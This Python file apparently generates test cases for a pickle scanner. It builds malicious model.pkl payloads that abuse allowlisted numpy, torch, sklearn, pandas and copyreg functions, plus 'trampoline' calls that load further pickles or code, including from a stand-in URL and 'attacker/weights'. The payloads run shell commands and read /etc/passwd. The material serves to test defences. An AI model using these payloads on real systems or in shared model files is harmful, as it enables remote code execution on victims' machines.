"""Functions that honest pickles call every day, called with arguments that turn them into something else; and functions
whose whole work is to load another file (trampolines).

An allowlist of names is not enough: `numpy.random._pickle.__randomstate_ctor` calls its second argument,
`torch._tensor._rebuild_from_type_v2` its first, `copyreg._reconstructor` makes an object of any class it is given.
"""

from pkl import *

SYSTEM = ref("os", "system")


def make(corpus):
    def shape(name, code, about="", expected="fail", version=4):
        corpus.attack("allowed-names-bad-arguments", name, {"model.pkl": pickled(code, version=version)}, about=about,
                      expected=expected)  # fmt: skip

    def trampoline(name, module, callee, *args, about=""):
        corpus.attack("trampolines", name, {"model.pkl": pickled(call(module, callee, *args))},
                      about=about or f"{module}.{callee} loads what it is pointed at")  # fmt: skip

    shapes(shape)
    trampolines(trampoline)


def new(module, name, *args, state=None):
    code = ref(module, name) + value(tuple(args)) + NEWOBJ
    return Code(code if state is None else code + value(state) + BUILD)


def shapes(case):
    case("randomstate-ctor", call("numpy.random._pickle", "__randomstate_ctor", "id", SYSTEM), "calls its second argument")
    case("generator-ctor", call("numpy.random._pickle", "__generator_ctor", "id", SYSTEM))
    case("rebuild-from-type", call("torch._tensor", "_rebuild_from_type_v2", SYSTEM, ref("builtins", "str"), ("id",), None))
    case("rebuild-from-type-eval", call("torch._tensor", "_rebuild_from_type", ref("builtins", "eval"), ref("builtins", "str"), ("1",), {}))
    case("rebuild-parameter", call("torch._utils", "_rebuild_parameter", call("os", "popen", "id"), True, {}))
    case("rebuild-wrapper", call("torch._utils", "_rebuild_wrapper_subclass", SYSTEM, "id", (1,), (1,), 0, None, "cpu", False))
    case("rebuild-tensor-hooks", call("torch._utils", "_rebuild_parameter_with_state", None, True, {}, {"__class__": SYSTEM}))
    case("reconstructor", call("copyreg", "_reconstructor", ref("subprocess", "Popen"), ref("builtins", "object"), None))
    case("newobj-function", call("copyreg", "__newobj__", ref("builtins", "map"), SYSTEM, ["id"]))
    case("newobj-ex-function", call("copyreg", "__newobj_ex__", ref("subprocess", "Popen"), (), {"args": "id"}))
    case("new-index", call("pandas.core.indexes.base", "_new_Index", ref("subprocess", "Popen"), {"args": "id", "shell": True}))
    case("unpickle-block", call("pandas._libs.internals", "_unpickle_block", call("os", "popen", "id"), 0, 2))
    case("new-obj-tree", call("sklearn.neighbors._kd_tree", "newObj", ref("subprocess", "Popen")))
    case("numpy-reconstruct", call("numpy.core.multiarray", "_reconstruct", ref("subprocess", "Popen"), (0,), b"b"))
    case("numpy-reconstruct-new", call("numpy._core.multiarray", "_reconstruct", SYSTEM, (0,), b"b"))
    case("numpy-object-array",
         Code(call("numpy.core.multiarray", "_reconstruct", ref("numpy", "ndarray"), (0,), b"b")
              + value((1, (1,), call("numpy", "dtype", "O8", False, True), False, [call("os", "popen", "id")])) + BUILD),
         "the call stands among the elements of an object array")  # fmt: skip
    case("numpy-ufunc", call("numpy.core", "_ufunc_reconstruct", "os", "system"), "fetches any name of any module")
    case("numpy-ufunc-called", apply(call("numpy._core", "_ufunc_reconstruct", "os", "system"), "id"))
    case("defaultdict-factory", call("collections", "defaultdict", SYSTEM), "a missing key will call os.system", "fail")
    case("defaultdict-partial", call("collections", "defaultdict", call("functools", "partial", SYSTEM, "id")))
    case("partial", call("functools", "partial", SYSTEM, "id"), "a partial that waits to be called")
    case("partial-state", Code(call("functools", "partial", ref("builtins", "print"))
                               + value((SYSTEM, ("id",), {}, None)) + BUILD), "BUILD replaces the function of a partial")  # fmt: skip
    case("getattr-of-class", apply(call("builtins", "getattr", ref("collections", "OrderedDict"), "__subclasses__")))
    case("getattr-dunder", call("builtins", "getattr", ref("datetime", "datetime"), "__class__"))
    case("getattr-of-torch", apply(call("builtins", "getattr", ref("torch", "hub"), "load"), "attacker/weights", "m"))
    case("enum-by-getattr", apply(call("builtins", "getattr", ref("re", "_compiler"), "sys")))
    case("function-transformer", new("sklearn.preprocessing._function_transformer", "FunctionTransformer",
                                     state={"func": SYSTEM, "validate": False}), "transform() will call os.system")  # fmt: skip
    case("scorer", new("sklearn.metrics._scorer", "_PredictScorer", state={"_score_func": ref("builtins", "exec"), "_sign": 1}))
    case("pipeline-memory", new("sklearn.pipeline", "Pipeline", state={"steps": [("a", call("subprocess", "getoutput", "id"))]}))
    case("tfidf-tokenizer", new("sklearn.feature_extraction.text", "TfidfVectorizer",
                                state={"tokenizer": SYSTEM, "preprocessor": ref("builtins", "eval")}))  # fmt: skip
    case("module-hooks", new("torch.nn.modules.linear", "Linear",
                             state={"_forward_pre_hooks": {0: ref("builtins", "exec")}, "training": False}),
         "a forward hook that is exec")  # fmt: skip
    case("module-forward", new("torch.nn.modules.container", "Sequential", state={"forward": ref("os", "system")}))
    case("ordered-dict-build", Code(ref("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE
                                    + value({"_metadata": call("os", "popen", "id")}) + BUILD))  # fmt: skip
    case("datetime-tz", call("datetime", "datetime", b"\x07\xe8\x01\x01\x00\x00\x00\x00\x00\x00", call("os", "popen", "id")))
    case("tzfile", call("dateutil.tz.tz", "tzfile", "/etc/passwd"), "reads a file of the attacker's choice", "not-pass")
    case("bytesio-state", Code(ref("_io", "BytesIO") + EMPTY_TUPLE + NEWOBJ + value((EVIL, 0, {"read": SYSTEM})) + BUILD))
    case("exception-class", call("subprocess", "CalledProcessError", 1, call("os", "popen", "id")))
    case("bytearray-of-map", call("builtins", "bytearray", call("builtins", "map", SYSTEM, ["id"])))
    case("set-of-map", call("builtins", "set", (call("builtins", "map", SYSTEM, ["id"]))))
    case("namedtuple-new", call("collections", "namedtuple", "R", "a b", False, None, "os"))
    case("encode-then-eval", call("builtins", "eval", call("_codecs", "encode", "print(1)", "latin1")))
    case("sgd-loss", call("sklearn.linear_model._sgd_fast", "Hinge", call("os", "popen", "id")))
    case("xgboost-handle", new("xgboost.core", "Booster", state={"handle": call("os", "popen", "id")}))
    case("booster-callbacks", new("lightgbm.basic", "Booster", state={"network": True, "__del__": SYSTEM, "handle": call("posix", "system", "id")}))
    case("device-call", call("torch", "device", call("os", "popen", "id")))
    case("size-of-map", call("torch", "Size", call("builtins", "map", SYSTEM, ["id"])), "torch.Size walks the map")
    case("tracer-names", Code(ref("torch", "FloatStorage.__init_subclass__.__self__.__base__") + value(("x",)) + REDUCE))
    case("keras-unpickle", call("keras.src.saving.keras_saveable", "KerasSaveable._unpickle_model", ref("argparse", "Namespace"), b"x"))
    case("training-args-callable", new("transformers.training_args", "TrainingArguments", state={"data_collator": SYSTEM}))


def trampolines(case):
    path = "https://weights.invalid/next.pkl"
    case("numpy-load", "numpy", "load", "next.npy", None, True)
    case("numpy-lib-load", "numpy.lib.npyio", "load", "next.npy", None, True)
    case("numpy-lib-impl", "numpy.lib._npyio_impl", "load", "next.npy", None, True)
    case("numpy-read-array", "numpy.lib.format", "read_array", "next.npy", True)
    case("joblib-load", "joblib", "load", "next.joblib")
    case("joblib-numpy-pickle", "joblib.numpy_pickle", "load", "next.joblib")
    case("joblib-temporary", "joblib.numpy_pickle", "load_temporary_memmap", "next.joblib", "r", None)
    case("joblib-compat", "joblib.numpy_pickle_compat", "load_compatibility", "next.joblib")
    case("pandas-read-pickle", "pandas.io.pickle", "read_pickle", path)
    case("pandas-compat", "pandas.compat.pickle_compat", "loads", EVIL)
    case("pandas-read-hdf", "pandas", "read_hdf", "next.h5")
    case("torch-load", "torch", "load", "next.pt")
    case("torch-serialization", "torch.serialization", "load", "next.pt")
    case("torch-legacy", "torch.serialization", "_legacy_load", None, None, ref("pickle", "Unpickler"))
    case("torch-jit-load", "torch.jit._serialization", "load", "next.pt")
    case("torch-package", "torch.package.package_importer", "PackageImporter", "next.pt")
    case("torch-hub-state", "torch.hub", "load_state_dict_from_url", path)
    case("torch-export", "torch.export", "load", "next.pt2")
    case("pickle-underscore", "_pickle", "loads", EVIL)
    case("pickle-python-class", "pickle", "_loads", EVIL)
    case("pickle-unpickler", "_pickle", "Unpickler", call("_io", "BytesIO", EVIL))
    case("pickle-pure", "pickle", "_Unpickler.load", None)
    case("shelve-db", "shelve", "DbfilenameShelf", "next")
    case("dill-loads", "dill", "loads", EVIL)
    case("dill-private", "dill._dill", "load", None)
    case("cloudpickle-loads", "cloudpickle", "loads", EVIL)
    case("compat-pickle", "multiprocessing.reduction", "ForkingPickler.loads", EVIL)
    case("multiprocessing-loads", "multiprocessing.connection", "_ForkingPickler.loads", EVIL)
    case("runpy-path", "runpy", "run_path", "next.py")
    case("runpy-module", "runpy", "_run_module_as_main", "antigravity")
    case("importlib-import", "importlib", "import_module", "hubconf")
    case("importlib-bootstrap", "importlib._bootstrap", "_gcd_import", "hubconf")
    case("importlib-util", "importlib.util", "module_from_spec", None)
    case("pydoc-importfile", "pydoc", "importfile", "next.py")
    case("pydoc-safeimport", "pydoc", "safeimport", "hubconf")
    case("pkgutil-resolve", "pkgutil", "resolve_name", "os:system")
    case("sklearn-memory", "sklearn.utils._joblib", "load", "next.joblib")
    case("statsmodels", "statsmodels.base.model", "Results.load", "next.pkl")
    case("skops", "skops.io", "load", "next.skops")
    case("lightgbm", "lightgbm.basic", "Booster", None, None, "next.txt")
    case("keras-h5", "keras.src.legacy.saving.legacy_h5_format", "load_model_from_hdf5", "next.h5")
    case("tensorflow-saved-model", "tensorflow.python.saved_model.load", "load", "next")
    case("transformers-pipeline", "transformers.pipelines", "pipeline", "text-generation", "attacker/weights")
    case("flax-restore", "flax.training.checkpoints", "restore_checkpoint", "next", None)
    case("marshal-load", "marshal", "loads", b"\xe3\x00")
    case("code-codec", "codecs", "open", "next.py")
